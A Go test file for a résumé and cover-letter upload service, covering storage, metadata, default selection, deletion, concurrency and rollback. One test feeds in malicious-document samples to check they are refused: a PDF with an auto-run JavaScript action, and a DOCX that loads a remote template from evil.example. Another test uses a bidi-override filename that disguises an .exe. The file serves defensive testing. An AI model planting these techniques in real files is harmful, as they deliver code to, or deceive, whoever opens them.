package documents_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"

	"github.com/applyq/applyq/internal/blob"
	"github.com/applyq/applyq/internal/documents"
	"github.com/applyq/applyq/internal/documents/documentstest"
	"github.com/applyq/applyq/internal/domain"
	"github.com/applyq/applyq/internal/postgres"
	"github.com/applyq/applyq/internal/postgres/pgtest"
)

// faultyBlobs is a blob store whose Put can be made to fail.
type faultyBlobs struct {
	documents.Blobs
	PutFunc func() error
}

func (f *faultyBlobs) Put(ctx context.Context, key, contentType string, data []byte) error {
	if f.PutFunc != nil {
		if err := f.PutFunc(); err != nil {
			return err
		}
	}
	return f.Blobs.Put(ctx, key, contentType, data)
}

type bundle struct {
	db    *postgres.DB
	svc   *documents.Service
	blobs *faultyBlobs
	dir   string // the blob store's directory
	user  *domain.User
}

// setup gives a test the service on a fresh database, with its bytes in a
// temporary directory and documents of at most 4 KiB.
func setup(t *testing.T) *bundle {
	t.Helper()
	db := pgtest.MustDB(t)
	dir := t.TempDir()
	store, err := blob.Open(context.Background(), documentstest.FileURL(dir))
	require.NoError(t, err)
	t.Cleanup(func() { _ = store.Close() })
	blobs := &faultyBlobs{Blobs: store}
	svc := documents.New(documents.Options{Pool: db.Pool, Blobs: blobs, Log: zaptest.NewLogger(t), MaxBytes: 4 << 10})
	return &bundle{db: db, svc: svc, blobs: blobs, dir: dir, user: pgtest.MustUser(t, db, pgtest.UserOpts{})}
}

func (b *bundle) upload(t *testing.T, kind string, data []byte) *domain.Document {
	t.Helper()
	d, err := b.svc.Upload(context.Background(), b.user.ID, kind, "", "cv.pdf", bytes.NewReader(data))
	require.NoError(t, err)
	return d
}

func (b *bundle) content(t *testing.T, id domain.ID) []byte {
	t.Helper()
	rc, _, err := b.svc.Open(context.Background(), b.user.ID, id)
	require.NoError(t, err)
	defer rc.Close()
	data, err := io.ReadAll(rc)
	require.NoError(t, err)
	return data
}

// An upload keeps the exact bytes under documents/<user>/<id>, with the
// type the bytes say, their size and sha256; the first of a kind is the
// default.
func TestUpload_StoresBytesAndMetadata(t *testing.T) {
	t.Parallel()
	b := setup(t)
	docx := documentstest.DOCX(t, "Ada Lovelace")
	d := b.upload(t, "resume", docx)
	sum := sha256.Sum256(docx)
	require.Equal(t, domain.ContentTypeDOCX, d.ContentType, "the bytes decide, not the .pdf name")
	require.Equal(t, "cv.docx", d.Filename)
	require.Equal(t, "cv", d.Name)
	require.Equal(t, int64(len(docx)), d.Size)
	require.Equal(t, hex.EncodeToString(sum[:]), d.SHA256)
	require.True(t, d.IsDefault)
	require.Equal(t, "documents/"+b.user.ID.String()+"/"+d.ID.String(), d.BlobKey)
	require.Contains(t, documentstest.MustFiles(t, b.dir), d.BlobKey)
	require.Equal(t, docx, b.content(t, d.ID))

	second := b.upload(t, "resume", documentstest.PDF("second"))
	require.False(t, second.IsDefault, "only the first of a kind")
	letter := b.upload(t, "cover_letter", documentstest.PDF("letter"))
	require.True(t, letter.IsDefault)
}

// TestUpload_NamesWithoutFormatCharacters: the stored name and filename
// lose bidi overrides and other format characters, so "a\u202egpj.exe.pdf"
// is not shown as a .jpg.
func TestUpload_NamesWithoutFormatCharacters(t *testing.T) {
	t.Parallel()
	b := setup(t)
	d, err := b.svc.Upload(context.Background(), b.user.ID, "resume", "", "a\u202egpj.exe.pdf", bytes.NewReader(documentstest.PDF("x")))
	require.NoError(t, err)
	stored, err := b.db.DocumentGet(context.Background(), b.user.ID, d.ID)
	require.NoError(t, err)
	require.Equal(t, "agpj.exe.pdf", stored.Filename)
	require.Equal(t, "agpj.exe", stored.Name)
}

// TestUpload_InspectedBeforeAccepted: a document holding active content
// (a PDF with JavaScript, a Word document with an external template) is
// refused with EINVALID naming what was found, and nothing is stored.
func TestUpload_InspectedBeforeAccepted(t *testing.T) {
	t.Parallel()
	b := setup(t)
	ctx := context.Background()
	js := []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n")
	_, err := b.svc.Upload(ctx, b.user.ID, "resume", "", "cv.pdf", bytes.NewReader(js))
	require.Equal(t, domain.EINVALID, domain.ErrorCode(err))
	require.Contains(t, domain.ErrorMessage(err), "JavaScript")
	require.Contains(t, domain.ErrorDetails(err)["found"], "/JS")

	docx := documentstest.Zip(t, map[string]string{
		"[Content_Types].xml": `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`,
		"word/document.xml":   `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>`,
		"word/_rels/settings.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
	})
	_, err = b.svc.Upload(ctx, b.user.ID, "resume", "", "cv.docx", bytes.NewReader(docx))
	require.Equal(t, domain.EINVALID, domain.ErrorCode(err))
	require.Contains(t, domain.ErrorMessage(err), "attachedTemplate")
	require.Empty(t, mustList(t, b))
	require.Empty(t, documentstest.MustFiles(t, b.dir))
}

// Exactly the limit passes; one byte more is refused, and so is anything
// that is not a PDF or DOCX: nothing is stored either way.
func TestUpload_RefusedStoresNothing(t *testing.T) {
	t.Parallel()
	b := setup(t)
	ctx := context.Background()
	atLimit := append(documentstest.PDF("x"), bytes.Repeat([]byte(" "), 4<<10-len(documentstest.PDF("x")))...)
	require.Len(t, atLimit, 4<<10)
	b.upload(t, "resume", atLimit)
	require.NoError(t, b.svc.Delete(ctx, b.user.ID, mustList(t, b)[0].ID))

	for name, c := range map[string]struct {
		kind string
		data []byte
		code string
	}{
		"one byte over": {"resume", append(atLimit, ' '), domain.ETOOLARGE},
		"empty":         {"resume", nil, domain.EINVALID},
		"program":       {"resume", []byte("MZ\x90\x00 looks like %PDF-"), domain.EINVALID},
		"zip":           {"cover_letter", documentstest.Zip(t, map[string]string{"a.txt": "a"}), domain.EINVALID},
		"bad kind":      {"photo", documentstest.PDF("x"), domain.EINVALID},
	} {
		_, err := b.svc.Upload(ctx, b.user.ID, c.kind, "", "cv.pdf", bytes.NewReader(c.data))
		require.Equal(t, c.code, domain.ErrorCode(err), "%s: %v", name, err)
	}
	require.Empty(t, mustList(t, b))
	require.Empty(t, documentstest.MustFiles(t, b.dir))
	require.Equal(t, 1, pgtest.MustCount(t, b.db, `SELECT count(*) FROM documents`), "only the deleted one")
}

// Bytes that cannot be written leave no row; a row that cannot be written
// takes its bytes back out.
func TestUpload_NothingHalfWritten(t *testing.T) {
	t.Parallel()
	b := setup(t)
	ctx := context.Background()
	b.blobs.PutFunc = func() error { return errors.New("disk full") }
	_, err := b.svc.Upload(ctx, b.user.ID, "resume", "", "cv.pdf", bytes.NewReader(documentstest.PDF("x")))
	require.ErrorContains(t, err, "disk full")
	require.Zero(t, pgtest.MustCount(t, b.db, `SELECT count(*) FROM documents`))
	require.Empty(t, documentstest.MustFiles(t, b.dir))

	b.blobs.PutFunc = nil
	nobody := domain.NewID() // no such user: the row's foreign key refuses it after the bytes were written
	_, err = b.svc.Upload(ctx, nobody, "resume", "", "cv.pdf", bytes.NewReader(documentstest.PDF("x")))
	require.ErrorContains(t, err, "documents_user_id_fkey")
	require.Zero(t, pgtest.MustCount(t, b.db, `SELECT count(*) FROM documents`))
	require.Empty(t, documentstest.MustFiles(t, b.dir), "the bytes were taken back out")
}

// Uploads racing to be the first of a kind, and default switches racing
// each other, leave exactly one default, without an error.
func TestDefault_OneUnderConcurrency(t *testing.T) {
	t.Parallel()
	b := setup(t)
	ctx := context.Background()
	var wg sync.WaitGroup
	errs := make(chan error, 16)
	// Every upload writes its bytes before any writes its row, so the rows race.
	var arrived sync.WaitGroup
	arrived.Add(8)
	b.blobs.PutFunc = func() error {
		arrived.Done()
		arrived.Wait()
		return nil
	}
	for i := range 8 {
		wg.Go(func() {
			_, err := b.svc.Upload(ctx, b.user.ID, "resume", "", "cv.pdf", bytes.NewReader(documentstest.PDF(strings.Repeat("x", i))))
			errs <- err
		})
	}
	wg.Wait()
	b.blobs.PutFunc = nil
	docs := mustList(t, b)
	require.Len(t, docs, 8)
	for _, d := range docs {
		wg.Go(func() {
			_, err := b.svc.SetDefault(ctx, b.user.ID, d.ID)
			errs <- err
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		require.NoError(t, err)
	}
	require.Equal(t, 1, pgtest.MustCount(t, b.db, `SELECT count(*) FROM documents WHERE user_id = $1 AND is_default`, b.user.ID))
}

// SetDefault moves the default within a kind; another user's or a deleted
// document is not found; deleting the default promotes nothing.
func TestSetDefaultAndDelete(t *testing.T) {
	t.Parallel()
	b := setup(t)
	ctx := context.Background()
	first := b.upload(t, "resume", documentstest.PDF("1"))
	second := b.upload(t, "resume", documentstest.PDF("2"))
	letter := b.upload(t, "cover_letter", documentstest.PDF("3"))
	got, err := b.svc.SetDefault(ctx, b.user.ID, second.ID)
	require.NoError(t, err)
	require.True(t, got.IsDefault)
	defaults := func() map[domain.ID]bool {
		out := map[domain.ID]bool{}
		for _, d := range mustList(t, b) {
			out[d.ID] = d.IsDefault
		}
		return out
	}
	require.Equal(t, map[domain.ID]bool{first.ID: false, second.ID: true, letter.ID: true}, defaults(), "the letter's default is untouched")

	other := pgtest.MustUser(t, b.db, pgtest.UserOpts{})
	_, err = b.svc.SetDefault(ctx, other.ID, first.ID)
	require.Equal(t, domain.ENOTFOUND, domain.ErrorCode(err))
	require.Equal(t, domain.ENOTFOUND, domain.ErrorCode(b.svc.Delete(ctx, other.ID, first.ID)))
	_, _, err = b.svc.Open(ctx, other.ID, first.ID)
	require.Equal(t, domain.ENOTFOUND, domain.ErrorCode(err))

	require.NoError(t, b.svc.Delete(ctx, b.user.ID, second.ID))
	require.Equal(t, map[domain.ID]bool{first.ID: false, letter.ID: true}, defaults(), "no résumé is the default until the user chooses")
	_, err = b.svc.SetDefault(ctx, b.user.ID, second.ID)
	require.Equal(t, domain.ENOTFOUND, domain.ErrorCode(err))
	require.Equal(t, domain.ENOTFOUND, domain.ErrorCode(b.svc.Delete(ctx, b.user.ID, second.ID)))
	d, err := b.svc.Get(ctx, b.user.ID, second.ID)
	require.NoError(t, err, "the metadata stays")
	require.NotNil(t, d.DeletedAt)
	require.NotNil(t, d.ContentDeletedAt, "no packet carried it: its bytes are gone")
	require.NotContains(t, documentstest.MustFiles(t, b.dir), second.BlobKey)
}

// A document a sent (or approved) packet carries keeps its bytes when the
// user deletes it: the user can no longer download it, the applier still
// can.
func TestDelete_KeepsBytesAPacketCarries(t *testing.T) {
	t.Parallel()
	b := setup(t)
	ctx := context.Background()
	pdf := documentstest.PDF("sent")
	d := b.upload(t, "resume", pdf)
	run := pgtest.MustRun(t, b.db, b.user, pgtest.RunOpts{})
	job := pgtest.MustJobs(t, b.db, b.user, 1)[0]
	_, err := b.db.Pool.Exec(ctx, `INSERT INTO application_tasks (id, user_id, run_id, job_id, state, packet) VALUES ($1, $2, $3, $4, 'approved', $5)`,
		domain.NewID(), b.user.ID, run.ID, job, `{"documents":[{"document_id":"`+d.ID.String()+`","sha256":"`+d.SHA256+`"}]}`)
	require.NoError(t, err)

	require.NoError(t, b.svc.Delete(ctx, b.user.ID, d.ID))
	require.Contains(t, documentstest.MustFiles(t, b.dir), d.BlobKey, "the evidence stays")
	got, err := b.svc.Get(ctx, b.user.ID, d.ID)
	require.NoError(t, err)
	require.NotNil(t, got.DeletedAt)
	require.Nil(t, got.ContentDeletedAt)
	_, _, err = b.svc.Open(ctx, b.user.ID, d.ID)
	require.Equal(t, domain.ENOTFOUND, domain.ErrorCode(err), "the user deleted it")
	rc, _, err := b.svc.OpenForApplication(ctx, b.user.ID, d.ID)
	require.NoError(t, err)
	data, err := io.ReadAll(rc)
	require.NoError(t, err)
	require.NoError(t, rc.Close())
	require.Equal(t, pdf, data)
}

func mustList(t *testing.T, b *bundle) []*domain.Document {
	t.Helper()
	docs, err := b.svc.List(context.Background(), b.user.ID, nil)
	require.NoError(t, err)
	return docs
}
